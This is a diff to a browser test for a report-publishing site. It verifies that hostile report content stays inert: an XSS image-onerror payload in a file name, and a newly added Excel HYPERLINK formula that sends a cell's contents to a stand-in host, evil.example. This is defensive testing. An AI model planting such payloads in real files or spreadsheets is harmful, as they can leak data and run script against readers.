@@ -14,6 +14,12 @@ import { PROJECT_ROOT, TEST_RESULTS_DIR } from "./helpers/site-build.ts";
 import { serveDirectory, type StaticServer } from "./helpers/static-server.ts";
 
 const HOSTILE_NAME = "2022年上坪乡<img src=x onerror=window.__pwned=1>年报.txt";
+// formula-like text (issue 15 item 3): the tables carry it with a leading apostrophe for Excel; the pages
+// show it as the report has it
+// no "/" (a file name cannot hold one)
+const FORMULA = '=HYPERLINK("evil.example"&A1,"详情")';
+const FORMULA_NAME = `${FORMULA}石桥镇年报.txt`;
+const FORMULA_REPORT = `石桥镇2016年政府信息公开工作年度报告\n\n${FORMULA}我镇主动公开政府信息120条。\n\n石桥镇人民政府\n2017年3月2日\n`;
 // the pages that show text taken from reports (file names, warnings, sentences, copied passages),
 // each with the element that is drawn last
 const PAGES: [string, string][] = [
@@ -29,6 +35,7 @@ describe("report text with script-like content is never executed", () => {
   let server: StaticServer;
   let chrome: LaunchedChromium;
   let hostileId: string;
+  let formulaId: string;
   const outsideRequests: string[] = [];
 
   beforeAll(async () => {
@@ -37,6 +44,7 @@ describe("report text with script-like content is never executed", () => {
     mkdirSync(corpus, { recursive: true });
     writeFileSync(join(corpus, HOSTILE_NAME), readFileSync(join(PROJECT_ROOT, "tests", "fixtures", "site-corpus", "hostile-report.txt")));
     cpSync(join(PROJECT_ROOT, "data", "reports", "real", "zhangjiapo-2018.txt"), join(work, "corpus", "zhangjiapo-2018.txt"));
+    writeFileSync(join(work, "corpus", FORMULA_NAME), FORMULA_REPORT);
     // a copy of what the build reads; node_modules shared through a link
     const site = copySite(work);
     const { code, output, ms, offline } = await buildSite(site, { NIANBAO_REPORTS: join(work, "corpus") });
@@ -45,6 +53,10 @@ describe("report text with script-like content is never executed", () => {
     dist = join(site, "dist");
     const reports = readBuiltTable(dist, "reports");
     hostileId = reports.find((r) => r.file.includes("<img"))!.report_id;
+    formulaId = reports.find((r) => r.file.includes("HYPERLINK"))!.report_id;
+    // the table itself holds it neutralised for Excel
+    const snippet = readBuiltTable(dist, "evidence").find((e) => e.report_id === formulaId && e.field === "active_total")!.snippet;
+    expect(snippet.startsWith(`'${FORMULA}`)).toBe(true);
     expect(hostileId).toBeTruthy();
     server = await serveDirectory(dist);
     chrome = await launchChromium();
@@ -87,6 +99,18 @@ describe("report text with script-like content is never executed", () => {
     if (await evidence.count()) expect(await evidence.innerText()).toContain('<img src=x onerror="window.__pwned=1">');
     mkdirSync(join(TEST_RESULTS_DIR, "screenshots"), { recursive: true });
     await page.screenshot({ path: join(TEST_RESULTS_DIR, "screenshots", "report-hostile.png"), fullPage: true });
+    await expectNothingRan(page, problems);
+    await page.close();
+  });
+
+  it("报告详情 shows formula-like text as the report has it, without the tables' apostrophe", async () => {
+    const { page, problems } = await visit(`/report?id=${formulaId}`, '[data-table="report-checks"]');
+    const file = await page.locator("[data-report-file]").innerText();
+    expect(file).toContain(FORMULA_NAME);
+    expect(file).not.toContain(`'${FORMULA}`);
+    const evidence = await page.locator('[data-table="report-evidence"]').innerText();
+    expect(evidence).toContain(FORMULA);
+    expect(evidence).not.toContain(`'${FORMULA}`);
     await expectNothingRan(page, problems);
     await page.close();
   });
